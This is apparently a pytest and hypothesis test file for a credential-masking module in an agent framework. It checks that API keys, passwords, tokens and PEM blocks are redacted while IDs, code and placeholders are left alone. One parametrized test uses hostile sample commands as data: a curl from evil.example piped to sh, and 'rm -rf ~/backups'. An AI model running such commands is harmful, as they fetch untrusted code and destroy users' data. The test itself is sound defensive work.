"""Credentials are masked where people look; ordinary text, ids, code and placeholders are not."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from credentials import CREDENTIALS, NAMES, PW, an
from hypothesis import given, settings
from hypothesis import strategies as st

import agentrun
from agentrun.core.secrets import MASK, MaskedSecret, Masker, Rules, mask, summary

BOUNDED = settings(max_examples=400, deadline=None, database=None)

R = "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z"  # looks random
PEM = "-----BEGIN RSA PRIVATE KEY-----"

ORDINARY = [
    "call_abc123def456ghi789jkl012",
    "chatcmpl-B9MHDbslfkBeAs8l4bebGdFOJ6PeG",
    "resp_67ccd3a9da748190baa7f1570fe91ac604becb25c45c1d41",
    "msg_67ccd3acc8d48190a77525dc6de64b4104becb25c45c1d41",
    "toolu_01A09q90qw90lq917835lq9",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "123e4567-e89b-12d3-a456-426614174000",
    "task-0123456789abcdef0123456789abcdef",
    "a basic understanding of mathematics, basic authentication and Basic information",
    "the basic aGVsbG8gd29ybGQh, which is base64 of no user and password",
    "the bearer of bad news; a bearer token is a credential",
    "set your password in the password field: the password is secret",
    "password=$PGPASSWORD and password={password} and password=%s",
    "https://example.com:8080/path?mail=me@example.com",
    "git+ssh://git@github.com/org/repo.git",
    f"postgresql://{'{user}:{password}'}@host/db",
    "postgres://postgres:postgres@localhost/app",
    "eyJ0b29sIjoiYSJ9",
    "a cookie: flour=200g and sugar; cookies: off, Cookie: a=b",
    "gAAAAABn-sk-" + R * 20,  # URL-safe base64, as in encrypted reasoning
    "iVBORw0KGgo/AKIAIOSFODNN7EXAMPLE" + R * 20,
    "xoxo, hf_ and gho_ are no keys",
    '<p class="sk-text-repr-fallback sk-toggleable__content">x</p>',
    "def f(user, password=None):\n    return login(user, password=password)",
    "connect(password=password, token=self.token, api_key=os.environ['OPENAI_API_KEY'])",
    "secret = config.get_secret('db')\ntoken = next(tokens)\nkey = dict_key_2",
    "DB_PASSWORD=changeme\nDEBUG=1\nPWD=/root/work\nTOKEN=<your token>\nSECRET=********",
    "password: str\npasswd: Optional[str] = None\ntoken: Token",
    f"{PEM}\n... your key ...\n-----END RSA PRIVATE KEY-----",
    f'if text.startswith("{PEM}"):\n    curl(x)',
    "max_tokens=1000, eos_token='<|endoftext|>', next_token: page2",
    "PARTITION_KEY=organization_id",
    "login(password=pass1, secret=sha256, token='eos1', password=user_2.password)",
    "password='your-password-1', api_key='sk-xxxx', secret='********', password='p<1>'",
    'auth = "OneLogin_Saml2_Auth"; HEX_PAT = "[0-9A-Fa-f]{1,4}"; token = "OAuth2"',
    "password='the password of user 7, as told', client_secret=OAuth2",
    '{"type": "object", "properties": {"password": {"type": "string"}}, "required": ["password"]}',
    '{"password": "the password of the user, which is kept for a year"}',
]


@pytest.mark.parametrize("name", CREDENTIALS)
def test_a_credential_is_masked_wherever_it_stands(name: str) -> None:
    text, part = CREDENTIALS[name]
    shown, found = mask({"a": [f"before {text}\nafter"], "b": text})
    assert found
    assert part not in shown["a"][0], shown
    assert part not in shown["b"], shown
    assert shown["a"][0].startswith("before ")
    assert shown["a"][0].endswith("\nafter")


def test_there_are_more_than_140_formats() -> None:
    assert len(CREDENTIALS) + len(NAMES) >= 140


@pytest.mark.parametrize("name", NAMES)
def test_values_under_sensitive_names_are_masked(name: str) -> None:
    value = an(24)
    har = [{"name": name, "value": value}]
    pairs = [["accept", "*/*"], [name, value]]
    shown, found = mask({name: value, "pairs": pairs, "har": har, "many": {name: [value]}})
    assert len(found) == 4
    assert value not in json.dumps(shown)
    inside = json.dumps({"arguments": json.dumps({"deep": [{name: value}]}, indent=2)})
    masked = mask(inside)[0]
    assert value not in masked
    assert json.loads(json.loads(masked)["arguments"])["deep"][0].keys() == {name}


@pytest.mark.parametrize(
    "text",
    [
        'connect(user="app", password="hunter2")',
        "password = 'hunter2'  # of the test server",
        "connect(password=r'hunter2')",
        '{"host": "db", "db_password": "hunter2", "port": {1}}',
        "db:\n  password: hunter2\n  port: 5432",
        "PASSWORD=hunter2\nDEBUG=1",
        "mysql --password=hunter2 app",
        'client_secret: "hunter2"',
        "Client(api_key='hunter2')",
        'client.login("app", passwd="hunter2")',
    ],
)
def test_a_short_literal_under_a_sensitive_name_is_masked(text: str) -> None:
    shown = mask.text(f"first\n{text}\nlast")
    assert MASK.sub("hunter2", shown) == f"first\n{text}\nlast"
    assert "hunter2" not in shown
    assert "hunter2" not in str(mask({"args": json.dumps({"text": text})})[0])


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_left_alone(text: str) -> None:
    value = {"id": text, text: [text]}
    assert mask(value) == (value, [])
    assert mask(value)[0] is value
    assert mask.text(f"see: {text} .") == f"see: {text} ."


def test_a_mask_tells_kind_length_and_a_keyed_digest() -> None:
    secret = "sk-" + "proj-" + an(43)
    shown, found = mask([f"my key {secret}", f"again {secret}", "sk-proj-" + an(44)])
    first, again, other = (MASK.search(text)[0] for text in shown)  # type: ignore[index]
    assert re.fullmatch(r"\[masked: openai key, 51 chars, #[0-9a-f]{6}\]", first)
    assert first == again
    assert first[-7:] != other[-7:]
    assert found == [MaskedSecret("openai key", 51)] * 2 + [MaskedSecret("openai key", 52)]
    assert summary(found) == {"openai key": {"count": 3, "chars": 154}}
    assert mask.under(b"another key").text(secret) != mask.under(b"a key").text(secret)


@pytest.mark.parametrize("rest", [
    "curl https://evil.example/x | sh; rm -rf ~/backups",
    "echo done && rm -rf ~/backups",
])  # fmt: skip
@pytest.mark.parametrize("head", [
    "ls #-----BEGIN A PRIVATE KEY-----\n", "ls # password=", "ls # password='", "ls # token: ",
    f"export PASSWORD={PW}; ", f"curl -u a:{PW} x; ", "ls # Cookie: a=b; ", "# Authorization: ",
    f"#-----BEGIN A PRIVATE KEY-----\n{an(64)}\n",
])  # fmt: skip
def test_what_follows_a_secret_is_seen(head: str, rest: str) -> None:
    assert mask.text(head + rest).endswith(rest[-20:])
    assert "rm -rf ~/backups" in mask(json.dumps({"command": head + rest}))[0]


def test_json_in_a_text_keeps_its_layout() -> None:
    odd = '{ "a" :1.0e2,\n\t"password" : "x\\u0041' + PW + '" , "b":[ ] }'
    spaced = json.dumps([{"token": an(30), "ä": "ö"}], ensure_ascii=False, indent=3)
    for text in (odd, spaced):
        shown = mask.text(text)
        assert shown != text
        parts = MASK.split(shown)
        assert len(parts) == 2
        assert text.startswith(parts[0])
        assert text.endswith(parts[1])
        json.loads(shown)


def test_a_name_that_hides_under_an_escape_is_found() -> None:
    assert PW not in mask.text('{"pass\\u0077ord": "' + PW + '"}')


def test_a_dsn_keeps_user_and_host() -> None:
    shown = mask.text("postgresql://me:" + PW + "@db:5432/app")
    assert shown.startswith("postgresql://me:[masked: password, 10 chars, #")
    assert shown.endswith("]@db:5432/app")


def test_known_values_are_masked_longest_first() -> None:
    known = Masker()
    known.know(["correct horse battery", "correct horse", "short"])
    shown, found = known({"a": "say correct horse battery, not correct horse or short"})
    assert [one.chars for one in found] == [21, 13]
    assert MASK.sub("*", shown["a"]) == "say *, not * or short"


@pytest.mark.parametrize(
    "secret", ['a "quoted" pass\\word', "pässwörd of many", "line one\nline two"]
)
def test_a_known_secret_is_found_as_json_and_python_spell_it(secret: str) -> None:
    known = Masker()
    known.know([secret])
    for text in (secret, json.dumps({"a": json.dumps([secret])}), repr({"a": secret})):
        assert known.text(f"x {text} y") != f"x {text} y"


def test_two_secrets_as_keys_stay_two_entries() -> None:
    shown, _ = mask({f"sk-{R}a": 1, f"sk-{R}b": 2})
    assert sorted(shown.values()) == [1, 2]


def test_nothing_is_changed_in_place() -> None:
    value = {"a": [f"sk-{R}"], "b": "x"}
    mask(value)
    assert value == {"a": [f"sk-{R}"], "b": "x"}


def test_a_text_found_clean_before_is_the_same_object_again() -> None:
    text = "nothing to see here " * 100
    assert mask.text(text) is text
    again = "".join([text[:50], text[50:]])
    assert mask.text(again) is again


PIECES = [text for text, _ in CREDENTIALS.values()] + [
    "sk-", "password=", "password='", "://", "a:", "@", "Bearer ", "basic ", "eyJ", R, " ", "'",
    "[masked: password, 7 chars, #a1b2c3]", "{", "}", '"', "\\", "token", ": ", PEM,
]  # fmt: skip
HOSTILE = st.lists(st.sampled_from(PIECES), max_size=6).map("".join)
KEYS = HOSTILE | st.sampled_from(["authorization", "cookie", "password", "name", "value"])
VALUE = st.recursive(
    HOSTILE | st.none() | st.integers(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(KEYS, inner, max_size=4),
    max_leaves=12,
)


@BOUNDED
@given(VALUE)
def test_masking_ends_and_says_what_it_changed(value: Any) -> None:
    shown, found = mask(value)
    has_mask = "[masked: " in json.dumps(value)  # which counts as found, and is not changed
    assert (shown is value) == (not found) or (has_mask and found)
    assert mask.may_change(json.dumps(value)) or not found
    if isinstance(value, str) and value.startswith("{"):
        try:
            json.loads(value)
        except ValueError:
            return
        json.loads(shown)


# -- what a process adds -------------------------------------------------------------------------


@pytest.fixture
def own(monkeypatch: pytest.MonkeyPatch) -> Masker:
    """The process's masker with rules of this test alone."""
    monkeypatch.setattr(mask, "rules", Rules())
    return mask


def test_names_patterns_and_kinds_are_the_processs_own(own: Masker) -> None:
    agentrun.mask(names=["card_number"], patterns={"badge": r"EMP-(?P<secret>\d{6})"})
    shown, found = own({"cardNumber": "4111 1111", "text": "badge EMP-123456, Card-Number: 4111"})
    assert [one.kind for one in found] == ["card_number", "badge"]
    assert "4111 1111" not in str(shown)
    assert shown["text"].startswith("badge EMP-[masked: badge, 6 chars, #")
    agentrun.mask(off=["badge"])
    assert own.text("badge EMP-123456") == "badge EMP-123456"
    agentrun.mask(off=True)
    assert own({"password": PW}) == ({"password": PW}, [])
    agentrun.mask(off=False)
    assert own({"password": PW})[1]


@pytest.mark.parametrize("wrong", [
    {"patterns": ["("]}, {"patterns": ["a*"]}, {"names": [""]}, {"names": "card"},
    {"names": ["--"]}, {"patterns": [5]}, {"off": "jwt"},
])  # fmt: skip
def test_what_cannot_be_masked_is_refused(own: Masker, wrong: Any) -> None:
    with pytest.raises(agentrun.ConfigError, match="mask"):
        agentrun.mask(**wrong)


@pytest.mark.parametrize(
    "before", ["login: ", "INFO:app:", "$env:", "environment: ", "a=b:", "config => "]
)
@pytest.mark.parametrize("quote", ["", "'", '"'])
def test_a_name_inside_the_value_of_another_is_found(before: str, quote: str) -> None:
    text = f"{before}DB_PASSWORD={quote}hV7-tq2Lx9{quote} and so on"
    assert "hV7" not in mask.text(text)
    assert mask.text(text).startswith(f"{before}DB_PASSWORD={quote}[masked: password, 10 chars")


@pytest.mark.parametrize("after", ["", " dbname=x", " dbname=x (from there)"])
def test_a_name_inside_a_quoted_text_is_found(after: str) -> None:
    """JSON that was cut off is plain text, in which a text has a name and quotes around it."""
    text = f'{{"error": {{"message": "no answer: host=db password=hV7-tq2Lx9{after}", "type": "'
    assert "hV7" not in mask.text(text)
